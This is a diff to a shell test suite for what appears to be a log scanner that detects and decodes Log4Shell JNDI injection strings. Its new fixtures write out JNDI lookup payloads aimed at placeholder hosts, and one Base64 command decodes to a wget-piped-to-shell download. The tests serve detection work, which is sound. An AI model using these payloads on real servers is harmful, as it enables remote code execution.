@@ -63,6 +63,22 @@ assert shown.startswith("many/f750.log:1: jndi"), repr(line[0][-200:])
 assert t.count("files,") <= 40, t.count("files,")
 PY
 fi
+# --summary: commands that are not text (a kit's Base64 placeholder) are
+# counted, not listed; paths that could not be read are counted.
+printf '%s\n' '${jndi:ldap://a.example/TomcatBypass/Command/Base64/XXXX}' \
+  '${jndi:ldap://b.example/Basic/Command/Base64//XXXX}' \
+  '${jndi:ldap://c.example/Basic/Command/Base64/d2dldCBodHRwOi8veC5leGFtcGxlL3NofHNo}' > kit.log
+"$DEFUSE" logs --summary kit.log /nonexistent/x 2>/dev/null | sed -n '/== defuse logs summary ==/,$p' > out.txt
+expect_nogrep ']u' out.txt "summary: no binary placeholder listed as a command"
+expect_nogrep '/XXXX' out.txt "summary: no undecodable Base64 listed as a command"
+expect_grep 'Decoded commands (1 distinct)' out.txt "summary: the text command listed"
+expect_grep '1 more decode to bytes that are not text' out.txt "summary: the placeholder counted"
+expect_grep '1 paths could not be read' out.txt "summary: unreadable paths counted"
+"$DEFUSE" logs --summary --json kit.log /nonexistent/x 2>/dev/null | tail -1 > out.json
+python3 -c '
+import json; o = json.load(open("out.json"))
+assert o["unreadable_paths"] == 1 and o["commands_not_text"] == 1, o' \
+  && ok "summary JSON: unreadable_paths, commands_not_text" || fail "summary JSON counts"
 "$DEFUSE" logs --color=always hit.log > out.txt
 grep -q $'\033\[' out.txt && ok "--color=always colours" || fail "--color=always"
 NO_COLOR=1 "$DEFUSE" logs hit.log > out.txt
